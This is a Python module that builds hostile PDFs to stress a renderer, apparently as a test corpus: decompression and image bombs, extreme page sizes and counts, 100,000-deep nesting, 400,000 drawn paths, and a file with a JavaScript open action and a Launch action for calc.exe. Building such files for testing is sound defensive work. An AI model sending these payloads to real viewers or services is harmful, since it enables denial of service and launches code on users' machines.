"""PDFs made to hurt a renderer: huge pages, many pages, deep nesting, decompression bombs, heavy drawing,
active content. Built with pikepdf; small on the wire (kilobytes), expensive to open or render."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Dictionary, Name, String


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=True)
    return out.getvalue()


def huge_page(seed: int) -> bytes:
    """One page of 200 x 200 inches times UserUnit 75,000 (the largest the format allows), filled."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(14400, 14400))
    page.obj.UserUnit = 75000
    page.obj.Contents = pdf.make_stream(b"0 0 1 rg 0 0 14400 14400 re f %% %d" % seed)
    return _save(pdf)


def many_pages(seed: int, count: int = 20_000) -> bytes:
    pdf = pikepdf.new()
    for _ in range(count):
        pdf.add_blank_page()
    pdf.Root.Info = pdf.make_indirect(Dictionary(Title=String(f"many {seed}")))
    return _save(pdf)


def deep_nesting(seed: int, depth: int = 100_000) -> bytes:
    """An object nested `depth` arrays deep (written by hand: no library writes this)."""
    body = b"[" * depth + b"%d" % seed + b"]" * depth
    objects = [b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>", body]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def image_bomb(seed: int, side: int = 60_000) -> bytes:
    """A 60,000 x 60,000 RGB image (10.8 GB decoded) of a few megabytes' worth of zeros, compressed."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(612, 792))
    row = bytes(side * 3)
    compressor = zlib.compressobj(9)
    # Only the first rows are really there; a decoder still has to allocate for the declared size.
    data = b"".join(compressor.compress(row) for _ in range(64)) + compressor.flush()
    image = pdf.make_stream(data, Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side,
                            ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.FlateDecode)
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 612 0 0 792 0 0 cm /Im0 Do Q %% %d" % seed)
    return _save(pdf)


def heavy_drawing(seed: int, paths: int = 400_000) -> bytes:
    """A page of 400,000 tiny stroked paths: long to render at any size."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(612, 792))
    ops = b"".join(b"%d %d m %d %d l S\n" % (n % 600, n % 780, n % 600 + 3, n % 780 + 2) for n in range(paths))
    page.obj.Contents = pdf.make_stream(ops + b"%% %d" % seed)
    return _save(pdf)


def content_bomb(seed: int, megabytes: int = 768) -> bytes:
    """A page whose content stream inflates from 3.5 MB to 768 MB of blanks (a renderer inflates it)."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(612, 792))
    compressor = zlib.compressobj(1)  # quick to build; still 200 : 1
    block = b" " * (1024 * 1024)
    data = b"".join(compressor.compress(block) for _ in range(megabytes)) + compressor.flush()
    page.obj.Contents = pdf.make_stream(data, Filter=Name.FlateDecode)
    return _save(pdf)


def active_content(seed: int) -> bytes:
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(f"app.alert({seed})"))
    page.obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))
    return _save(pdf)


KINDS: dict[str, Callable[[int], bytes]] = {
    "huge_page": huge_page, "many_pages": many_pages, "deep_nesting": deep_nesting, "image_bomb": image_bomb,
    "heavy_drawing": heavy_drawing, "content_bomb": content_bomb, "active_content": active_content,
}


def hostile_set(count: int) -> list[tuple[str, bytes]]:
    """`count` files, the kinds in turn (each kind built once: some take seconds to build)."""
    names = list(KINDS)
    built: dict[str, bytes] = {}
    result = []
    for n in range(count):
        name = names[n % len(names)]
        if name not in built:
            built[name] = KINDS[name](n)
        result.append((name, built[name]))
    return result
